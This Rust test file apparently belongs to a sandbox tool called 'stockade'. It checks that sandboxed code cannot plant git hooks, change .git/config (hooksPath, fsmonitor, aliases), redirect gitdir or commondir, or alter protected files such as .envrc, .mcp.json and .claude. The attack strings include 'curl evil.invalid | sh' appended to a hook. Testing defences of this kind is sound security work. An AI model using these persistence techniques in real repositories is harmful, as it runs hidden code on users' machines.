//! Persistence: code that would run later, outside the sandbox. Git hooks (in the existing
//! hooks directory, after deleting it, in a repository made by `git init` during the run, in
//! nested repositories), `.git/config` (`core.hooksPath`, `core.fsmonitor`), and the other
//! protected workspace paths (`.envrc`, `.vscode`, `.claude`, `.mcp.json`, ...).
//!
//! The decisive checks are on the HOST after `stockade run` returns: no executable
//! non-sample hook anywhere in the workspace, config bytes unchanged. Protected paths that do
//! not exist when the run starts cannot be created during it either: the creating system call
//! fails with `EPERM` and is reported as a `protected_path_blocked` violation, and the post-run
//! sweep (which moves protected paths created during the run to
//! `.stockade/quarantine/<run-id>/`) stays as a backstop that must find nothing. Many more
//! in-run cases are in `inrun.rs`.

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use attacks::{live_hooks, read_bytes, read_text, write_file, Fixture, Records};

const HOOK: &str = r"printf '#!/bin/sh\necho pwned-by-hook\n'";

/// Writes an executable `pre-commit`-style hook at `path` (relative to the workspace).
fn write_hook(path: &str) -> String {
    format!("{HOOK} > {path} && chmod +x {path}")
}

fn assert_no_live_hooks(ws: &Path, context: &str) {
    let hooks = live_hooks(ws);
    assert!(
        hooks.is_empty(),
        "{context}: non-sample git hooks exist in the workspace after the run: {hooks:?}"
    );
}

/// `git commit --allow-empty` on the host in `dir`, as a user would after the run.
fn host_commit(fx: &Fixture, dir: &Path) -> attacks::Run {
    fx.git_host(&[
        "-C",
        &dir.display().to_string(),
        "-c",
        "user.email=host@example.invalid",
        "-c",
        "user.name=Host",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "host commit after the run",
    ])
}

/// Runs `git status` and `git commit` on the host in `dir` (as a user would after the run)
/// and asserts no planted hook or fsmonitor ran.
fn assert_host_git_runs_nothing(fx: &Fixture, dir: &Path) {
    let status = fx.git_host(&["-C", &dir.display().to_string(), "status"]);
    let commit = host_commit(fx, dir);
    for run in [&status, &commit] {
        run.assert_lacks("pwned");
    }
    assert!(
        !fx.root.join("pwned-fsmonitor").exists(),
        "a planted core.fsmonitor ran on the host"
    );
}

/// The attack's creation of a protected path ending in one of `suffixes` was refused inside
/// the run and reported, and the post-run sweep found nothing to quarantine.
fn assert_refused_in_run(records: &Records, run: &attacks::Run, suffixes: &[&str]) {
    records.assert_blocked(run, suffixes);
    records.assert_nothing_swept(run);
}

fn mode(path: &Path) -> u32 {
    fs::symlink_metadata(path)
        .map(|m| m.permissions().mode() & 0o7777)
        .unwrap_or(0)
}

#[test]
fn pre_commit_hook_cannot_be_created_in_existing_hooks_dir() {
    let fx = Fixture::new();
    assert!(fx.ws.join(".git/hooks").is_dir(), "git made no hooks dir");
    let script = write_hook(".git/hooks/pre-commit");
    fx.attack(&[], &script).outcome().assert_failed();
    assert_no_live_hooks(&fx.ws, "existing hooks dir");
    assert_host_git_runs_nothing(&fx, &fx.ws);
    // Other hook names and a symlinked hook.
    for attack in [
        write_hook(".git/hooks/post-checkout"),
        "ln -s /bin/true .git/hooks/pre-push".to_owned(),
        "cp .git/hooks/pre-commit.sample .git/hooks/pre-commit".to_owned(),
        write_hook("/proc/self/cwd/.git/hooks/pre-commit"),
        format!("cd .git && {}", write_hook("hooks/pre-commit")),
    ] {
        fx.attack(&[], &attack).outcome().assert_failed();
    }
    assert_no_live_hooks(&fx.ws, "other hook names");
    // Control: the caller can.
    fx.control(&script).outcome().assert_ok();
    assert_eq!(
        live_hooks(&fx.ws),
        vec![fx.ws.join(".git/hooks/pre-commit")]
    );
}

#[test]
fn existing_hook_cannot_be_changed_or_removed() {
    let fx = Fixture::new();
    let hook = fx.ws.join(".git/hooks/pre-commit");
    write_file(&hook, "#!/bin/sh\nexit 0\n", 0o755);
    for attack in [
        "echo 'curl evil.invalid | sh' >> .git/hooks/pre-commit",
        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit",
        "rm -f .git/hooks/pre-commit && test ! -e .git/hooks/pre-commit",
        "mv .git/hooks/pre-commit .git/hooks/x && test ! -e .git/hooks/pre-commit",
        "chmod 0777 .git/hooks/pre-commit",
    ] {
        fx.attack(&[], attack).outcome().assert_failed();
        assert_eq!(
            read_text(&hook).as_deref(),
            Some("#!/bin/sh\nexit 0\n"),
            "hook changed by: {attack}"
        );
        assert_eq!(mode(&hook), 0o755, "hook mode changed by: {attack}");
    }
    assert_eq!(live_hooks(&fx.ws), vec![hook.clone()]);
    fx.control("echo 'echo pwned' >> .git/hooks/pre-commit")
        .outcome()
        .assert_ok();
    assert!(read_text(&hook).unwrap_or_default().contains("pwned"));
}

#[test]
fn hooks_dir_cannot_be_deleted_and_recreated() {
    let fx = Fixture::new();
    let script = format!(
        "rm -rf .git/hooks; mkdir -p .git/hooks && {}",
        write_hook(".git/hooks/pre-commit")
    );
    fx.attack(&[], &script).outcome().assert_failed();
    assert_no_live_hooks(&fx.ws, "rm -rf .git/hooks");
    assert!(
        fx.ws.join(".git/hooks/pre-commit.sample").is_file(),
        "the original hooks directory was deleted"
    );
    // Renaming it away instead of deleting.
    let script = format!(
        "mv .git/hooks .git/hooks.old; mkdir -p .git/hooks && {}",
        write_hook(".git/hooks/pre-commit")
    );
    let records = fx.records();
    let inside = fx.attack(&records.opts(), &script).outcome();
    assert_no_live_hooks(&fx.ws, "mv .git/hooks");
    if fx.ws.join(".git/hooks.old").exists() {
        // The rename went through: then the new hook must have been refused in the run.
        assert_refused_in_run(
            &records,
            &inside.run,
            &[".git/hooks/pre-commit", ".git/hooks"],
        );
    }
    // Control.
    let fx = Fixture::new();
    let script = format!(
        "rm -rf .git/hooks; mkdir -p .git/hooks && {}",
        write_hook(".git/hooks/pre-commit")
    );
    fx.control(&script).outcome().assert_ok();
    assert_eq!(live_hooks(&fx.ws).len(), 1);
}

/// The repository is new, so no read-only mount covers its hooks: writing the hook fails
/// in the run (`EPERM`), git's `*.sample` hooks are made as usual.
#[test]
fn hook_in_repo_made_by_git_init_during_run_is_refused_and_reported() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let fx = Fixture::without_git();
    let records = fx.records();
    let script = format!(
        "git -c init.defaultBranch=main init -q && {}",
        write_hook(".git/hooks/pre-commit")
    );
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside
        .assert_failed_if_guarded()
        .assert_output_contains("Operation not permitted");
    // On the host, after the run: no live hook, the sample hooks kept.
    assert_no_live_hooks(&fx.ws, "git init during the run");
    let samples = fs::read_dir(fx.ws.join(".git/hooks"))
        .map(|d| d.flatten().count())
        .unwrap_or(0);
    assert!(samples > 0, "git's *.sample hooks were not made");
    assert_refused_in_run(&records, &inside.run, &[".git/hooks/pre-commit"]);
    assert_host_git_runs_nothing(&fx, &fx.ws);
    // Control: without stockade the hook stays.
    fx.control(&format!(
        "git init -q && {}",
        write_hook(".git/hooks/pre-commit")
    ))
    .outcome()
    .assert_ok();
    assert_eq!(
        live_hooks(&fx.ws),
        vec![fx.ws.join(".git/hooks/pre-commit")]
    );
}

#[test]
fn hook_in_nested_repo_made_during_run_is_refused() {
    let fx = Fixture::new();
    let records = fx.records();
    let script = format!(
        "git init -q vendor/dep && {}",
        write_hook("vendor/dep/.git/hooks/post-checkout")
    );
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.assert_failed_if_guarded();
    assert_no_live_hooks(&fx.ws, "nested git init");
    assert!(
        fx.ws.join("vendor/dep/.git/HEAD").is_file(),
        "the nested git init itself must work"
    );
    assert_refused_in_run(
        &records,
        &inside.run,
        &["vendor/dep/.git/hooks/post-checkout"],
    );
    assert_host_git_runs_nothing(&fx, &fx.ws.join("vendor/dep"));
    fx.control(&script).outcome().assert_ok();
    assert_eq!(
        live_hooks(&fx.ws),
        vec![fx.ws.join("vendor/dep/.git/hooks/post-checkout")]
    );
}

#[test]
fn hook_in_existing_nested_repo_is_protected() {
    let fx = Fixture::new();
    fx.git_host(&["init", "-q", "vendor/lib"]).assert_success();
    for p in attacks::walk(&fx.ws.join("vendor"), &|_| false) {
        if p.is_dir() {
            attacks::chmod(&p, 0o755);
        }
    }
    let script = write_hook("vendor/lib/.git/hooks/pre-push");
    fx.attack(&[], &script).outcome();
    assert_no_live_hooks(&fx.ws, "existing nested repo");
    fx.control(&script).outcome().assert_ok();
    assert_eq!(live_hooks(&fx.ws).len(), 1);
}

#[test]
fn git_dir_cannot_be_swapped_for_a_fresh_one() {
    let fx = Fixture::new();
    let config = fx.ws.join(".git/config");
    let before = read_bytes(&config).expect("config");
    let records = fx.records();
    let script = format!(
        "mv .git .git-old && git init -q && {}",
        write_hook(".git/hooks/pre-commit")
    );
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.ran();
    assert_no_live_hooks(&fx.ws, "swapped .git");
    if fx.ws.join(".git-old").exists() {
        assert_refused_in_run(&records, &inside.run, &[".git/hooks/pre-commit"]);
    } else {
        assert_eq!(read_bytes(&config), Some(before), ".git/config changed");
    }
    let hooks_path = fx.git_host(&["config", "--get", "core.hooksPath"]);
    assert!(
        hooks_path.stdout.trim().is_empty(),
        "{}",
        hooks_path.describe()
    );
    // Control.
    let fx = Fixture::new();
    fx.control(&script).outcome().assert_ok();
    assert_eq!(live_hooks(&fx.ws).len(), 1);
}

#[test]
fn git_config_is_unchanged_after_the_run() {
    let fx = Fixture::new();
    let config = fx.ws.join(".git/config");
    let before = read_bytes(&config).expect("config");
    for attack in [
        "git config core.hooksPath /var/tmp/evil-hooks",
        "git config core.fsmonitor 'touch /var/tmp/pwned'",
        "git config alias.st '!touch pwned'",
        "printf '[core]\\n\\tsshCommand = touch pwned\\n' >> .git/config",
        ": > .git/config",
        "rm -f .git/config && test ! -e .git/config",
        "mv .git/config .git/config.bak && test ! -e .git/config",
        "git config --file .git/config include.path /var/tmp/evil.cfg",
    ] {
        // Under gVisor the config is a staged copy (gitstage.rs): the change lands there and
        // is refused after the run; the host's config is the test either way.
        fx.attack(&[], attack).outcome().assert_failed_if_guarded();
        assert_eq!(
            read_bytes(&config).as_deref(),
            Some(before.as_slice()),
            ".git/config changed by: {attack}"
        );
    }
    // Git inside still reads the config (the repository works).
    fx.attack(&[], "git config user.email")
        .outcome()
        .assert_shows("attacks@example.invalid");
    // Control.
    fx.control("git config core.hooksPath /var/tmp/evil-hooks")
        .outcome()
        .assert_ok();
    assert_ne!(read_bytes(&config), Some(before));
}

/// A repository assembled by hand during the run (no git needed), whose new `.git/config`
/// would point `core.hooksPath` at an unprotected directory and set `core.fsmonitor`: writing
/// that config (directly, or by renaming a file onto it) is refused in the run, and git on the
/// host runs neither.
#[test]
fn config_of_repo_created_during_run_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let fx = Fixture::without_git();
    let records = fx.records();
    let fsmonitor = fx.script(
        "fsmonitor.sh",
        &format!(
            "#!/bin/sh\ntouch {}\n",
            fx.root.join("pwned-fsmonitor").display()
        ),
    );
    let script = format!(
        "mkdir -p .git/objects .git/refs/heads myhooks && echo 'ref: refs/heads/main' > .git/HEAD && {} || exit 99
        printf '[core]\\n\\trepositoryformatversion = 0\\n\\thooksPath = myhooks\\n\\tfsmonitor = {}\\n' > cfg || exit 99
        cat cfg > .git/config || mv cfg .git/config",
        write_hook("myhooks/pre-commit"),
        fsmonitor.display(),
    );
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.assert_failed_if_guarded();
    assert_ne!(
        inside.rc,
        Some(99),
        "setup failed\n{}",
        inside.run.describe()
    );
    // `> .git/config` may create it (as libgit2 does), but only empty: the write fails.
    let created = fs::read(fx.ws.join(".git/config")).unwrap_or_default();
    assert!(
        created.is_empty(),
        "a .git/config with content was created: {:?}",
        String::from_utf8_lossy(&created)
    );
    let hooks_path = fx.git_host(&["config", "--get", "core.hooksPath"]);
    assert!(
        hooks_path.stdout.trim().is_empty(),
        "core.hooksPath survived the run\n{}",
        hooks_path.describe()
    );
    assert_refused_in_run(&records, &inside.run, &[".git/config"]);
    assert_host_git_runs_nothing(&fx, &fx.ws);
    // Control: planted directly, git on the host runs the hook.
    fx.control(&script).outcome().assert_ok();
    let commit = fx.git_host(&[
        "-c",
        "user.email=host@example.invalid",
        "-c",
        "user.name=Host",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "control",
    ]);
    assert!(
        commit.all_output().contains("pwned-by-hook"),
        "{}",
        commit.describe()
    );
}

/// Protected files and directories that exist when the run starts.
const PROTECTED_FILES: &[&str] = &[
    ".envrc",
    ".mcp.json",
    ".gitmodules",
    "stockade.toml",
    ".vscode/settings.json",
    ".idea/workspace.xml",
    ".claude/settings.json",
    ".codex/config.toml",
    ".husky/pre-commit",
    ".stockade/state.json",
    ".bashrc",
    ".profile",
    ".zshrc",
    "app/.envrc",
];

fn original(name: &str) -> String {
    if name == "stockade.toml" {
        "# an empty policy\n".to_owned()
    } else {
        format!("original {name}\n")
    }
}

#[test]
fn existing_protected_paths_stay_read_only() {
    let fx = Fixture::new();
    for name in PROTECTED_FILES {
        write_file(&fx.ws.join(name), original(name), 0o644);
    }
    for name in PROTECTED_FILES {
        for attack in [
            format!("echo evil >> {name}"),
            format!("rm -f {name} && test ! -e {name}"),
            format!("mv {name} {name}.moved && test ! -e {name}"),
        ] {
            fx.attack(&[], &attack).outcome().assert_failed();
        }
        assert_eq!(
            read_text(&fx.ws.join(name)),
            Some(original(name)),
            "protected {name} changed on the host"
        );
    }
    // New files inside protected directories.
    for dir in [".vscode", ".claude", ".husky", ".idea", ".codex"] {
        fx.attack(&[], &format!("echo '{{}}' > {dir}/new.json"))
            .outcome()
            .assert_failed();
        assert!(
            !fx.ws.join(dir).join("new.json").exists(),
            "{dir}/new.json created on the host"
        );
    }
    // Control.
    for name in PROTECTED_FILES {
        fx.control(&format!("echo evil >> {name}"))
            .outcome()
            .assert_ok();
    }
}

/// Protected paths that do not exist at the start cannot be created during the run: each
/// creation fails there (so the path never exists on the host, not even while the run lasts)
/// and is reported; the post-run sweep has nothing left to quarantine.
#[test]
fn protected_paths_cannot_be_created_during_run() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let fx = Fixture::new();
    let records = fx.records();
    // (file written, protected path the violation names)
    let created = [
        (".envrc", ".envrc"),
        (".mcp.json", ".mcp.json"),
        (".vscode/tasks.json", ".vscode"),
        (".claude/settings.json", ".claude"),
        (".husky/pre-commit", ".husky"),
        (".cursor/mcp.json", ".cursor"),
        (".gemini/settings.json", ".gemini"),
        (".devcontainer/devcontainer.json", ".devcontainer"),
        (".gitmodules", ".gitmodules"),
        ("app/.envrc", "app/.envrc"),
    ];
    let mut script = String::new();
    for (name, _) in created {
        script.push_str(&format!(
            "mkdir -p $(dirname {name}) && echo planted-{name} > {name} || echo refused:{name}\n"
        ));
    }
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.assert_ok();
    for (name, protected) in created {
        inside.assert_output_contains(&format!("refused:{name}\n"));
        assert!(
            fs::symlink_metadata(fx.ws.join(protected)).is_err(),
            "{protected} was created in the workspace"
        );
        records.assert_blocked(&inside.run, &[protected]);
    }
    records.assert_nothing_swept(&inside.run);
    // Control.
    let out = fx.control(&script).outcome();
    out.assert_ok().assert_lacks("refused:");
    for (name, _) in created {
        assert!(fx.ws.join(name).exists());
    }
}

/// A `.git` *file* made during the run (`gitdir: ../evil`) would send host git to a bare
/// repository the sandbox filled with hooks. Writing it fails in the run.
#[test]
fn gitdir_redirect_cannot_be_made_during_run() {
    let fx = Fixture::new();
    let records = fx.records();
    // The hook in the bare repository may be refused as well; the control shows it works.
    let script = format!(
        "git init -q --bare evil && git --git-dir=evil config core.bare false && {{ {} || true; }} && mkdir -p sub || exit 99
        printf 'gitdir: ../evil\\n' > sub/.git",
        write_hook("evil/hooks/pre-commit")
    );
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.assert_failed_if_guarded();
    assert_ne!(
        inside.rc,
        Some(99),
        "setup failed\n{}",
        inside.run.describe()
    );
    assert!(
        fs::symlink_metadata(fx.ws.join("sub/.git")).is_err(),
        "the gitdir redirect is in the workspace"
    );
    assert_refused_in_run(&records, &inside.run, &["sub/.git"]);
    assert_host_git_runs_nothing(&fx, &fx.ws.join("sub"));
    // Control: without stockade the redirect stays and host git runs the planted hook.
    fx.control(&script).outcome().assert_ok();
    let commit = host_commit(&fx, &fx.ws.join("sub"));
    assert!(
        commit.all_output().contains("pwned-by-hook"),
        "{}",
        commit.describe()
    );
}

/// `.git/commondir` makes git take hooks and config from another directory.
#[test]
fn commondir_redirect_cannot_be_made_during_run() {
    let fx = Fixture::new();
    let records = fx.records();
    // The hook in the bare repository may be refused as well; the control shows it works.
    let script = format!(
        "git init -q --bare evilc && {{ {} || true; }} || exit 99
        echo ../evilc > .git/commondir",
        write_hook("evilc/hooks/pre-commit")
    );
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.assert_failed_if_guarded();
    assert_ne!(
        inside.rc,
        Some(99),
        "setup failed\n{}",
        inside.run.describe()
    );
    assert!(
        fs::symlink_metadata(fx.ws.join(".git/commondir")).is_err(),
        "a commondir was created"
    );
    assert_refused_in_run(&records, &inside.run, &[".git/commondir"]);
    assert_host_git_runs_nothing(&fx, &fx.ws);
    fx.control(&script).outcome().assert_ok();
    let commit = host_commit(&fx, &fx.ws);
    assert!(
        commit.all_output().contains("pwned-by-hook"),
        "{}",
        commit.describe()
    );
}

/// A submodule's git dir lives in `.git/modules/<name>`. After `git submodule deinit` no
/// worktree `.git` file points at it any more, yet `git submodule update` later runs its
/// `post-checkout` hook: its hooks are protected like the top-level ones.
#[test]
fn deinitialised_submodule_hooks_cannot_be_planted() {
    let fx = Fixture::new();
    let src = fx.root.join("lib-src");
    fs::create_dir_all(&src).unwrap();
    let git = |dir: &Path, args: &[&str]| {
        fx.git_host(
            &[
                &[
                    "-C",
                    &dir.display().to_string(),
                    "-c",
                    "protocol.file.allow=always",
                ][..],
                args,
            ]
            .concat(),
        )
        .assert_success();
    };
    git(&src, &["init", "-q"]);
    git(
        &src,
        &[
            "-c",
            "user.email=a@b",
            "-c",
            "user.name=a",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "lib",
        ],
    );
    git(
        &fx.ws,
        &["submodule", "add", "-q", &src.display().to_string(), "lib"],
    );
    git(&fx.ws, &["submodule", "deinit", "-q", "-f", "lib"]);
    assert!(
        !fx.ws.join("lib/.git").exists(),
        "deinit leaves no worktree link"
    );
    for p in attacks::walk(&fx.ws, &|_| false) {
        if p.is_dir() {
            attacks::chmod(&p, 0o755);
        }
    }
    let hook = ".git/modules/lib/hooks/post-checkout";
    let script = write_hook(hook);
    let inside = fx.attack(&[], &script).outcome();
    inside.assert_failed();
    assert!(
        !fx.ws.join(hook).exists(),
        "a hook was planted in the submodule's git dir"
    );
    fx.control(&script).outcome().assert_ok();
    assert!(
        fx.ws.join(hook).exists(),
        "control: the hook can be planted without stockade"
    );
}

/// `.git/hooks` as a symlink at the start: the read-only bind covers its target, but the link
/// itself can be swapped for a real directory. No hook can be created in that directory.
#[test]
fn symlinked_hooks_dir_swapped_for_a_real_one_accepts_no_hook() {
    let fx = Fixture::new();
    let shared = fx.ws.join("shared-hooks");
    fs::create_dir_all(&shared).unwrap();
    attacks::chmod(&shared, 0o755);
    fs::remove_dir_all(fx.ws.join(".git/hooks")).unwrap();
    std::os::unix::fs::symlink("../shared-hooks", fx.ws.join(".git/hooks")).unwrap();
    let records = fx.records();
    let script = format!(
        "rm .git/hooks && mkdir .git/hooks && {}",
        write_hook(".git/hooks/pre-commit")
    );
    let inside = fx.attack(&records.opts(), &script).outcome();
    inside.assert_failed_if_guarded();
    assert_no_live_hooks(&fx.ws, "swapped hooks symlink");
    assert_refused_in_run(
        &records,
        &inside.run,
        &[".git/hooks/pre-commit", ".git/hooks"],
    );
    assert_host_git_runs_nothing(&fx, &fx.ws);
    // Control: without stockade the swap leaves a live hook.
    fs::remove_dir_all(fx.ws.join(".git/hooks")).ok();
    std::os::unix::fs::symlink("../shared-hooks", fx.ws.join(".git/hooks")).unwrap();
    fx.control(&script).outcome().assert_ok();
    assert_eq!(
        live_hooks(&fx.ws),
        vec![fx.ws.join(".git/hooks/pre-commit")]
    );
}

/// A workspace whose `.git` is a symlink to the real git dir (kept beside it): that git dir's
/// hooks are protected, and the run is not refused.
#[test]
fn git_dir_behind_a_symlink_is_protected() {
    let fx = Fixture::new();
    fs::rename(fx.ws.join(".git"), fx.ws.join(".repo")).unwrap();
    std::os::unix::fs::symlink(".repo", fx.ws.join(".git")).unwrap();
    let script = write_hook(".git/hooks/pre-commit");
    let inside = fx.attack(&[], &script).outcome();
    inside.assert_failed();
    assert!(
        !fx.ws.join(".repo/hooks/pre-commit").exists(),
        "hook planted through the .git symlink"
    );
    // Ordinary git use still works through the link.
    fx.attack(&[], "echo more >> README.md && git add README.md && git -c user.email=a@b -c user.name=a commit -qm more")
        .outcome()
        .assert_ok();
    fx.control(&script).outcome().assert_ok();
    assert!(fx.ws.join(".repo/hooks/pre-commit").exists());
}

/// A `deny_write` glob the creation guard cannot express (a wildcard mid-path) is checked only
/// by the post-run sweep, which lists again only the directories whose ctime moved. A file
/// planted deep in a settled tree, its directory's mtime then put back, is still found: ctime
/// moves with every change, `utimensat` included.
#[test]
fn sweep_sees_a_file_planted_in_a_settled_tree_behind_a_reset_mtime() {
    if attacks::not_applicable(&attacks::na::STATX) {
        return;
    }
    let fx = Fixture::new();
    for d in 0..40 {
        fs::create_dir_all(fx.ws.join(format!("pkg{d}/deep/er"))).unwrap();
    }
    // Older than the sweep's settling window (3 s), so these directories are passed through
    // unlisted when unchanged.
    std::thread::sleep(std::time::Duration::from_millis(3300));
    let policy = fx.out_file("sweep-policy.toml");
    fs::write(
        &policy,
        "[filesystem]\ndeny_write = [\"$WORKSPACE/*/deep/er/deploy.key\"]\n",
    )
    .unwrap();
    let records = fx.records();
    // The mtime goes back to the nanosecond (`%y`), so it is the same as before the plant.
    let script = "d=pkg7/deep/er; m=\"$(stat -c %y $d)\" && echo k > $d/deploy.key \
                  && touch -m -d \"$m\" $d && test \"$(stat -c %y $d)\" = \"$m\" && echo planted";
    let mut opts = records.opts();
    let policy_arg = policy.display().to_string();
    opts.extend(["--policy", policy_arg.as_str()]);
    let inside = fx.attack(&opts, script).outcome();
    inside.assert_ok().assert_output_contains("planted");
    let planted = fx.ws.join("pkg7/deep/er/deploy.key");
    assert!(
        !planted.exists(),
        "the planted file stayed in the workspace"
    );
    let violations = records.violations();
    assert!(
        violations.iter().any(|v| {
            v["kind"] == attacks::PROTECTED_PATH_CREATED
                && v["path"]
                    .as_str()
                    .is_some_and(|p| p.ends_with("/pkg7/deep/er/deploy.key"))
        }),
        "no protected_path_created violation for the planted file:\n{violations:#?}"
    );
    assert!(attacks::quarantined_files(&fx.ws)
        .iter()
        .any(|p| p.ends_with("pkg7/deep/er/deploy.key")));
    // Control: without stockade the file stays, behind the same put-back mtime.
    let out = fx.control(script).outcome();
    out.assert_ok().assert_output_contains("planted");
    assert!(planted.exists());
}
